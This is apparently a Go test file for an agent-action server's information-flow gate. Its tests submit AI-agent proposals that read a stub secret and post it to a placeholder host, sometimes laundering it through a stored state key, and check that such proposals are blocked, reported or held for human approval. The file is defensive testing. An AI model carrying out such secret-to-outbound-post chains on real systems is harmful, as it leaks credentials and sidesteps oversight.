package rpc

import (
	"context"
	"strings"
	"testing"
	"time"

	"github.com/parslee-ai/car-server/client"
	"github.com/parslee-ai/car-server/internal/engine"
	"github.com/parslee-ai/car-server/internal/flow"
	"github.com/parslee-ai/car-server/internal/host"
	"github.com/parslee-ai/car-server/protocol"
)

// secretTools are a secret reader, a sink and a harmless reader.
func secretTools() map[string]toolFunc {
	return map[string]toolFunc{
		"read_secret": func(context.Context, protocol.ToolExecuteParams) (any, error) { return "hunter2", nil },
		"read_file": func(context.Context, protocol.ToolExecuteParams) (any, error) {
			return "stash", nil
		},
		"http_post": echo,
	}
}

func stateWrite(id, key string, value any) map[string]any {
	return map[string]any{"id": id, "type": "state_write", "parameters": map[string]any{"key": key, "value": value}}
}

func stateRead(id string, key any) map[string]any {
	return map[string]any{"id": id, "type": "state_read", "parameters": map[string]any{"key": key}}
}

func TestExfiltrationThroughAReferenceIsBlocked(t *testing.T) {
	ts := startServer(t, Options{})
	tb := newToolbox(t, ts, secretTools())
	res := tb.submit(t, proposal(
		toolCall("a", "read_secret", map[string]any{"name": "db"}),
		toolCall("b", "http_post", map[string]any{"url": "https://x.example", "body": "$a.output"})))
	for _, id := range []string{"a", "b"} {
		st := resultOf(t, res, id)
		if st.Status != protocol.StatusRejected || !strings.Contains(st.ErrorText(), "information-flow gate blocked the proposal") ||
			!strings.Contains(st.ErrorText(), "action 'a' (read_secret) → action 'b' (http_post)") {
			t.Fatalf("%s: %s %s", id, st.Status, st.ErrorText())
		}
	}
	if calls := tb.callLog(); len(calls) != 0 {
		t.Fatalf("a blocked proposal dispatched %+v", calls)
	}
	ev := eventOf(t, tb.Client, map[string]any{"kinds": []string{string(engine.EventFlowViolation)}})
	if ev.ActionID != "b" || ev.Data["sink"] != "http_post" {
		t.Fatalf("flow_violation event %+v", ev)
	}
}

func TestExfiltrationThroughAKeyAnEarlierProposalWroteIsBlocked(t *testing.T) {
	ts := startGovernedServer(t, 0)
	tb := newToolbox(t, ts, secretTools())
	read := toolCall("a", "read_secret", map[string]any{})
	approve(t, tb, read) // reading a credential is full_access
	first := proposal(read, stateWrite("w", "stash", "$a.output"))
	first["id"] = "p-stash"
	if st := statuses(tb.submit(t, first)); st["w"] != protocol.StatusSucceeded {
		t.Fatalf("stashing: %v", st)
	}
	res := tb.submit(t, proposal(stateRead("r", "stash"), toolCall("s", "http_post", map[string]any{"body": "$r.output"})))
	if st := resultOf(t, res, "s"); st.Status != protocol.StatusRejected ||
		!strings.Contains(st.ErrorText(), "state key 'stash' (written by proposal p-stash action 'w') → action 'r' → action 's' (http_post)") {
		t.Fatalf("reading the stash into a sink: %s", st.ErrorText())
	}
	// A key named by a reference is judged once it is resolved.
	res = tb.submit(t, proposal(
		toolCall("f", "read_file", map[string]any{}),
		stateRead("r", "$f.output"),
		toolCall("s", "http_post", map[string]any{"body": "$r.output"})))
	if st := resultOf(t, res, "r"); st.Status != protocol.StatusRejected ||
		!strings.Contains(st.ErrorText(), "with its references resolved") || !strings.Contains(st.ErrorText(), "state key 'stash'") {
		t.Fatalf("a resolved key: %s %s", st.Status, st.ErrorText())
	}
	for _, c := range tb.callLog() {
		if c.Tool == "http_post" {
			t.Fatalf("the sink was called: %+v", c)
		}
	}
	// The taint belongs to the connection that wrote it.
	other := newToolbox(t, ts, secretTools())
	res = other.submit(t, proposal(stateRead("r", "stash"), toolCall("s", "http_post", map[string]any{"body": "$r.output"})))
	if st := statuses(res); st["s"] != protocol.StatusSucceeded {
		t.Fatalf("another connection: %v %s", st, resultOf(t, res, "s").ErrorText())
	}
}

// orderingLabels forbid summarising after reading private notes.
func orderingLabels(ts *testServer) {
	labels := flow.Defaults()
	labels.Orderings = []flow.Ordering{{First: "read_private_notes", Then: "post_summary"}}
	ts.rt.SetToolLabels(labels)
}

func notesPlan() map[string]any {
	return proposal(
		toolCall("n", "read_private_notes", map[string]any{}),
		toolCall("p", "post_summary", map[string]any{"text": "done"}, "dependencies", []string{"n"}))
}

func TestAForbiddenOrderingIsEscalatedAndThenApproved(t *testing.T) {
	ts := startHostServer(t, testTimeout, Options{})
	orderingLabels(ts)
	runner := newToolbox(t, ts, map[string]toolFunc{"read_private_notes": echo, "post_summary": echo})

	// Nobody watching: rejected at once, naming what to approve.
	res := runner.submit(t, notesPlan())
	if st := resultOf(t, res, "p"); st.Status != protocol.StatusRejected || !strings.Contains(st.ErrorText(), "'post_summary' after 'read_private_notes'") ||
		!fingerprintRE.MatchString(st.ErrorText()) {
		t.Fatalf("with no host: %s", st.ErrorText())
	}

	h, _ := subscribeHost(t, ts, &client.Options{})
	ch := submitAsync(t, runner.Client, notesPlan())
	a := approvalOf(t, h.next(t, host.KindApprovalRequested))
	if a.Context["action_id"] != "p" || a.Context["required_tier"] != "full_access" {
		t.Fatalf("approval %+v", a)
	}
	if len(runner.callLog()) != 0 {
		t.Fatal("the proposal ran before anyone decided")
	}
	if _, err := h.resolve(t, a.ID, true, "fine"); err != nil {
		t.Fatal(err)
	}
	res = awaitResult(t, ch, 2)
	if st := statuses(res); st["n"] != protocol.StatusSucceeded || st["p"] != protocol.StatusSucceeded {
		t.Fatalf("after the approval: %v %s", st, resultOf(t, res, "p").ErrorText())
	}
	// The decision is on the ledger: the same operation does not ask again.
	res = runner.submit(t, notesPlan())
	if st := statuses(res); st["p"] != protocol.StatusSucceeded {
		t.Fatalf("approved ordering asked again: %v", st)
	}
}

func TestVerifyReportsAFlowViolation(t *testing.T) {
	ts := startServer(t, Options{})
	tb := newToolbox(t, ts, secretTools())
	var res engine.VerifyResult
	mustCall(t, tb, protocol.MethodVerify, map[string]any{"proposal": proposal(
		toolCall("a", "read_secret", map[string]any{}),
		toolCall("b", "http_post", map[string]any{"body": "$a.output"}))}, &res)
	if res.Valid {
		t.Fatalf("verify called an exfiltration valid: %+v", res.Issues)
	}
	found := false
	for _, is := range res.Issues {
		if is.ActionID == "b" && is.Severity == "error" && strings.Contains(is.Message, "action 'a' (read_secret) → action 'b' (http_post)") {
			found = true
		}
	}
	if !found {
		t.Fatalf("no flow issue in %+v", res.Issues)
	}
	if len(tb.callLog()) != 0 {
		t.Fatal("verify executed a tool")
	}
}

// waitCalled waits until a tool reports it was entered.
func waitCalled(t *testing.T, entered <-chan struct{}) {
	t.Helper()
	select {
	case <-entered:
	case <-time.After(testTimeout):
		t.Fatal("the tool was never called")
	}
}
